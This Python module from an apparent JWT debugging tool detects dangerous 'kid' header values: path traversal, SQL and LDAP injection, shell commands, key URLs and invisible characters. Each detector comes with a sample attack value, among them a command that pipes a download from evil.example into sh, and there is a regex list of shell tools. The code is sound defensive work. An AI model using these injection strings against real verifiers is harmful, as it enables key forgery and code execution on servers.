"""Pitfalls of `kid` where it becomes a path, a query, a command, an address or a log line."""

import re
from collections.abc import Iterator

from debugger import samples
from debugger.claims.wording import quoted
from debugger.pitfalls.registry import Case, Evidence, Severity, pitfall, rfc
from debugger.regex import regex

_AT = "header.kid"


def _kid(case: Case) -> str:
    kid = case.header.get("kid")
    return kid if isinstance(kid, str) else ""


@pitfall(
    "kid-path-traversal",
    severity=Severity.ERROR,
    title="“kid” is a file path",
    why="If “kid” becomes a file name, the attacker chooses the key: an empty file, or one whose"
    " content they know.",
    fix="Look “kid” up in a fixed table of keys.",
    reference=rfc(8725, "3.10"),
    silences_here=("kid-control",),
)
def path_traversal(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if kid and (_CLIMBS.search(kid) or (kid[0] in "/\\" and _is_path(kid))):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@path_traversal.sample
def _path_traversal() -> samples.Question:
    return samples.with_header(kid="../../../../dev/null")


@pitfall(
    "kid-sql",
    severity=Severity.ERROR,
    title="There is SQL in “kid”",
    why="If “kid” is put into a query, the attacker makes it return a key of their own.",
    fix="Bind parameters, and look up exact names.",
    reference=rfc(8725, "3.10"),
)
def sql(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if kid and _SQL.search(kid):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@sql.sample
def _sql() -> samples.Question:
    return samples.with_header(kid="x' UNION SELECT 'secret'-- ")


@pitfall(
    "kid-command",
    severity=Severity.ERROR,
    title="There is a shell command in “kid”",
    why="If “kid” reaches a shell, or an open() that runs commands, code runs on your server.",
    fix="Accept a short alphabet of letters, digits, “-” and “_” only.",
    reference="RFC 8725 §3.10, CWE-78",
)
def command(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if kid and _COMMAND.search(kid):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@command.sample
def _command() -> samples.Question:
    return samples.with_header(kid="key; curl evil.example | sh")


@pitfall(
    "kid-ldap",
    severity=Severity.ERROR,
    title="There is an LDAP filter in “kid”",
    why="If “kid” is put into a filter, it matches another entry than the one that was meant.",
    fix="Escape the value (RFC 4515), or look up exact names.",
    reference=rfc(8725, "3.10"),
    silences_here=("kid-command",),
)
def ldap(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if kid and any(piece in kid for piece in _LDAP):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@ldap.sample
def _ldap() -> samples.Question:
    return samples.with_header(kid="*)(uid=*")


@pitfall(
    "kid-url",
    severity=Severity.WARNING,
    title="“kid” is an address",
    why="Some software fetches the key from there, and an attacker’s token names an attacker’s"
    " address.",
    fix="Use opaque names, and never fetch anything by “kid”.",
    reference=rfc(8725, "3.10"),
)
def url(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if kid[:8].lower().startswith(("http://", "https://")):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@url.sample
def _url() -> samples.Question:
    return samples.with_header(kid="https://keys.acme.example/2026-11.pem")


@pitfall(
    "kid-control",
    severity=Severity.WARNING,
    title="There are invisible characters in “kid”",
    why="They split log lines, and hide from people what is really compared.",
    fix="Accept printable ASCII only.",
    reference="CWE-117",
)
def control(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if kid and not kid.isprintable():
        match = _INVISIBLE.search(kid)
        if match:
            yield Evidence(_AT, f"“kid” holds the character U+{ord(match[0]):04X}.")


@control.sample
def _control() -> samples.Question:
    return samples.with_header(kid="a\u202eb")


def _is_path(kid: str) -> bool:
    """Whether a name that begins with a separator is a path, and not base64 that happens to."""
    if _ROOT.match(kid) or _EXTENSION.search(kid):
        return True
    if not any(separator in kid[1:] for separator in "/\\"):
        return False
    return not _BASE64.fullmatch(kid) or not _looks_random(kid)


def _looks_random(kid: str) -> bool:
    if "+" in kid or "=" in kid:
        return True
    kinds = (str.isupper, str.islower, str.isdigit)
    return len(kid) >= 20 and all(any(map(kind, kid)) for kind in kinds)


_CLIMBS = regex(
    r"\.\.[/\\]|\.\.%2f|\.\.%5c|%2e%2e|\A\.\.\Z|\A\s*file:|\A[a-z]:[/\\]|\0", re.IGNORECASE
)
_ROOT = regex(
    r"[/\\](?:dev|etc|proc|sys|var|home|root|tmp|usr|opt|app|keys)(?:[/\\]|\Z)", re.IGNORECASE
)
_EXTENSION = regex(r"\.[A-Za-z][A-Za-z0-9]{0,4}\Z")
_BASE64 = regex(r"[A-Za-z0-9+/]+={0,2}")
_SQL = regex(
    r"""['"]\s*+\)*+\s*+(?:(?:or|and|union|select)\b|--|;|/\*)|\bunion\s++(?:all\s++)?select\b""",
    re.IGNORECASE,
)
_COMMANDS = (
    "sh|bash|zsh|cat|curl|wget|id|whoami|uname|ls|nc|ncat|ping|sleep|rm|echo|touch|python|perl|ruby"
    "|node|powershell|cmd|nslookup|dig"
)
_COMMAND = regex(rf"`|\$\(|\$\{{|(?:;|\|\|?|&&?)\s*+(?:{_COMMANDS})(?![\w-])", re.IGNORECASE)
_LDAP = ("*)(", ")(|", ")(&", "(|(", "(&(")
_INVISIBLE = regex(r"[\x00-\x1f\x7f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]")
